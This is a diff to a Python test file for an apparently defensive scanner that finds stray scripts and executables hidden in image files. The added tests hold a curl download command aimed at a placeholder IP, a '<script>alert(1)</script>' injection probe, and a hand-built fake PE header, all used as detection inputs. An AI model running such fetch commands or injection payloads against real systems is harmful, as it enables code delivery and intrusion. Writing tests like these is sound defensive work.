@@ -27,6 +27,7 @@ from agent.inspect.stray_code import (
     _embedded_images,
     _restart_marker_in,
     _script_in,
+    first_executable,
     stray_code,
 )
 from agent.model import Finding, Severity
@@ -419,3 +420,20 @@ def test_the_main_images_finding_is_kept_when_accounted_images_follow() -> None:
     end = len(data) - len(image)
     structure = Structure("jpeg", end=end, accounted=[Region(end, len(data), "MPF image")])
     assert _one(stray_code(_scan(data), "jpeg", structure, []))[2] == 10
+
+
+def test_only_strong_markers_count_in_the_scan_data() -> None:
+    """A telling marker (a download command) is not one safe to search in compressed data."""
+    assert _script_in(b"curl -s http://198.51.100.7/x") is None
+    assert _script_in(b"x <script>alert(1)</script> x") == "html"
+
+
+def test_an_mz_too_close_to_a_signature_past_64_kib_is_no_header() -> None:
+    """e_lfanew points past the 64-byte DOS header: an MZ 16 bytes before `PE\\0\\0` whose
+    e_lfanew says 16 is no header, also where the search window does not start at byte 0."""
+    sig = 70 * 1024  # past MAX_PE_HEADER_OFFSET (64 KiB), so the window starts after byte 0
+    data = bytearray(sig + 4096)
+    data[sig - 16 : sig - 14] = b"MZ"
+    data[sig - 16 + 0x3C : sig - 16 + 0x40] = (16).to_bytes(4, "little")  # behind PE\0\0
+    data[sig : sig + 4] = b"PE\x00\x00"
+    assert first_executable(Reader.from_bytes(bytes(data)), []) is None
